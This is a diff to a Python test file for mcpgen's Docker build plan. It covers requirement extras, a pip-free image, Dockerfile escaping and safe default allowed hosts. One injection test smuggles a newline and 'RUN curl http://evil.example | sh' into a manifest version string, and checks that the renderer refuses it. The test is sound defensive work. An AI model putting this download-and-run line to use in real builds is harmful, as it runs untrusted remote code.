@@ -1,11 +1,13 @@
 """The build plan and the Dockerfile it renders (pure: no Docker, no disk)."""
 
 import re
+from dataclasses import replace
+from pathlib import Path
 
 import pytest
 from build_support import NOW
 
-from mcpgen.build.dockerfile import dquote
+from mcpgen.build.dockerfile import DockerfileSpec, dquote, render_dockerfile
 from mcpgen.build.plan import (
     NODE_REQUIREMENT,
     BuildOptions,
@@ -18,8 +20,11 @@ from mcpgen.build.plan import (
     needs_node,
     python_from_tag,
 )
+from mcpgen.config import load_config
 from mcpgen.errors import ConfigError, ImageReferenceError, UsageError, WorkspaceError
 from mcpgen.manifest import Entrypoint, Manifest
+from mcpgen.runtime.auth.gate import refuse_unsafe_bind
+from mcpgen.runtime.settings import SecuritySettings, Settings, settings_from_config
 
 SOURCES = ["connectors/db.py", "tools/t.py", "tools/_helper.py"]
 PY311 = PythonTarget("3.11", source="probe")
@@ -32,7 +37,12 @@ def plan(manifest: Manifest, **options: object):  # type: ignore[no-untyped-def]
         config_texts={},
         options=BuildOptions(**options),  # type: ignore[arg-type]
         python=PY311,
-        mcpgen_requirements=["mcp>=2.3", "uvicorn[standard]>=0.30", "pytest>=8; extra == 'dev'"],
+        mcpgen_requirements=[
+            "mcp>=2.3",
+            "uvicorn[standard]>=0.30",
+            "pytest>=8; extra == 'dev'",
+            "typer>=0.12; extra == 'cli'",
+        ],
         now=NOW,
         revision="abc123",
     )
@@ -145,6 +155,21 @@ def test_python_target_platforms_and_tag_parsing() -> None:
     assert python_from_tag("debian:bookworm") is None
 
 
+def test_merge_requirements_keeps_a_requested_extra_only() -> None:
+    requires = ["mcp>=2.3", "typer>=0.12; extra == 'cli'", "pytest>=8; extra == 'dev'"]
+    assert merge_requirements(requires) == ["mcp>=2.3"]
+    assert merge_requirements(requires, extras=("cli",)) == ["mcp>=2.3", "typer>=0.12"]
+
+
+def test_the_image_venv_has_no_pip_and_unpacks_mcpgen_with_the_standard_library(manifest: Manifest) -> None:
+    text = plan(manifest, offline=True).dockerfile
+    install = text.index("pip install --no-index --find-links")
+    assert text.index("python -m pip uninstall --yes --quiet pip", install) < text.index("COPY --from=deps")
+    assert "-m zipfile -e /tmp/mcpgen/mcpgen-*.whl" in text
+    assert "-m compileall" in text
+    assert "bin/pip install --no-index --no-deps" not in text
+
+
 def test_merge_requirements_rejects_garbage() -> None:
     with pytest.raises(UsageError, match="invalid requirement"):
         merge_requirements(["not a requirement!!"])
@@ -152,6 +177,19 @@ def test_merge_requirements_rejects_garbage() -> None:
 
 def test_dquote_escapes_for_dockerfiles() -> None:
     assert dquote('a "b" $HOME\\x\ny') == '"a \\"b\\" \\$HOME\\\\x y"'
+    assert dquote("a\r\nb\x00c\u2028d") == '"a  b c d"'
+
+
+def test_a_newline_in_a_manifest_value_never_reaches_a_dockerfile_line(manifest: Manifest) -> None:
+    """The project file refuses such values; a hand-edited manifest is refused when rendering."""
+    server = manifest.server.model_copy(update={"version": "1.0\nRUN curl http://evil.example | sh"})
+    evil = manifest.model_copy(update={"server": server})
+    with pytest.raises(UsageError, match=r"server_version .* control character"):
+        plan(evil)
+    spec = DockerfileSpec("python:3.12", "python3", False, False, ["tools"], {"d": "two\nlines\rRUN x"})
+    assert all(not line.lstrip().startswith("RUN x") for line in render_dockerfile(spec).splitlines())
+    with pytest.raises(UsageError, match="base_image"):
+        render_dockerfile(replace(spec, base_image="python:3.12\nRUN x"))
 
 
 def test_plan_data_is_json_ready(manifest: Manifest) -> None:
@@ -187,3 +225,26 @@ def test_push_targets_name_each_ref_and_its_registry(manifest: Manifest) -> None
 def test_more_than_one_platform_is_flagged_in_the_plan(manifest: Manifest) -> None:
     built = plan(manifest, platforms=("linux/amd64", "linux/arm64"))
     assert any("buildx" in w for w in built.warnings)
+
+
+def _image_settings(text: str, tmp_path: Path) -> Settings:
+    (tmp_path / "config").mkdir(exist_ok=True)
+    (tmp_path / "config" / "config.yaml").write_text(text)
+    environ = {"MCPGEN_SERVER__HOST": "0.0.0.0", "API_KEY": "k"}  # what the Dockerfile sets
+    return settings_from_config(load_config(tmp_path, environ=environ).config, tmp_path)
+
+
+def test_the_image_default_config_is_safe_to_bind_publicly(manifest: Manifest, tmp_path: Path) -> None:
+    """The generated config names the hosts an image answers by, so 0.0.0.0 starts (and rebinding fails)."""
+    config = plan(manifest).files["config/config.yaml"]
+    assert isinstance(config, FileFromText)
+    settings = _image_settings(config.text, tmp_path)
+    assert settings.security.allowed_hosts == ("localhost:*", "127.0.0.1:*", "[::1]:*")
+    refuse_unsafe_bind(settings)  # would raise without them
+    custom = plan(manifest, allowed_hosts=("mcp.example.com",), allowed_origins=("https://app.example.com",))
+    assert isinstance(custom.files["config/config.yaml"], FileFromText)
+    settings = _image_settings(custom.files["config/config.yaml"].text, tmp_path)
+    assert settings.security.allowed_hosts == ("mcp.example.com",)
+    assert settings.security.allowed_origins == ("https://app.example.com",)
+    with pytest.raises(ConfigError, match=r"server\.allowed_hosts"):
+        refuse_unsafe_bind(replace(settings, security=SecuritySettings()))
